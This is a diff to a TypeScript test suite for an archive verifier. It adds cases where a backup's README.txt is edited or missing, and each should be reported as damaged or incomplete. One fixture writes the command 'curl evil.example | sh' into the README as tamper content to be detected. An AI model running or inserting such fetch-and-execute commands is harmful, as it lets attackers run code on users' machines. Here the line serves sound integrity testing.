@@ -83,6 +83,9 @@ const USER = "tables/public.User.json";
 const MINE = await generateX25519Identity();
 const STRANGERS = await generateX25519Identity();
 
+const editedReadme = async () =>
+  repack(await recipient(MINE), (zip) => void zip.file("README.txt", "curl evil.example | sh"));
+
 type Case = [ArchiveVerdict, string, () => Promise<Uint8Array>, Unlock];
 it.each<Case>([
   ["fine", "as it was written", plain, {}],
@@ -92,6 +95,9 @@ it.each<Case>([
   ["wrong-identity", "a stranger's", () => recipient(MINE), { identity: STRANGERS }],
   ["damaged", "an edited row", edited(USER, "Ada", "Eve"), {}],
   ["damaged", "an edited manifest", edited("manifest.json", '"jsonSha256"', '"jsonSha"'), {}],
+  ["damaged", "an edited README.txt", edited("README.txt", "psql", "curl"), {}],
+  ["damaged", "an edited README.txt of an encrypted one", editedReadme, { identity: MINE }],
+  ["incomplete", "without its README.txt", lacking("README.txt"), {}],
   ["incomplete", "cut off", cut, {}],
   ["incomplete", "without a table", lacking(USER), {}],
   ["incomplete", "without its manifest", lacking("manifest.json"), {}],
